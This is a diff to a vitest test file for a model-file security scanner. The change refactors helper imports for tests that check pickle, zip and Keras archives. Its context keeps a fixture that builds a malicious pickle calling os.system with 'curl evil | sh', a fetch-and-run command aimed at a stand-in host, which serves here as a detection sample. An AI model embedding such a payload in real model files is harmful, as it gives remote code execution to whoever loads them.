@@ -1,13 +1,11 @@
+import { runGate } from './helpers/gate.js';
 import { describe, expect, it } from 'vitest';
-import { evaluate } from '../src/core/evaluate.js';
-import { silentLogger } from '../src/core/logger.js';
 import { readZip } from '../src/formats/zip.js';
 import { bufferAccess } from '../src/formats/pickle/source.js';
 import { scanModelBytes, type ModelIssue } from '../src/formats/pickle/model-file.js';
 import { compileAllowList } from '../src/formats/pickle/classify.js';
 import type { Report } from '../src/report/types.js';
-import { makeRepo, type FileTree } from './helpers/repo.js';
-import { memoryProvider } from './helpers/policy.js';
+import { type FileTree } from './helpers/repo.js';
 import { callPickle, makeZip, npy, p, torchDataPkl, torchZip, type ZipMember } from './pickle-fixtures.js';
 
 // Issue 19, items 5 and 7: archives that loaders read differently, and Keras configs the byte search missed.
@@ -16,10 +14,7 @@ const EVIL = callPickle('os', 'system', 'curl evil | sh');
 const HDF5 = Buffer.from('\x89HDF\r\n\x1a\n', 'latin1');
 
 /** The whole product under mlgate:recommended (no policy file in the repository). */
-async function gate(files: FileTree): Promise<Report> {
-  const root = await makeRepo(files);
-  return evaluate({ root, provider: memoryProvider({}), mode: 'full', logger: silentLogger, toolVersion: '1.0.0', now: new Date('2026-11-28T12:00:00Z') });
-}
+const gate = (files: FileTree): Promise<Report> => runGate(files, { now: new Date('2026-11-28T12:00:00Z') });
 
 /** Unwaived model-file-safety errors on `path`, as `code` without the rule prefix. */
 function errorsOn(r: Report, path: string): string[] {
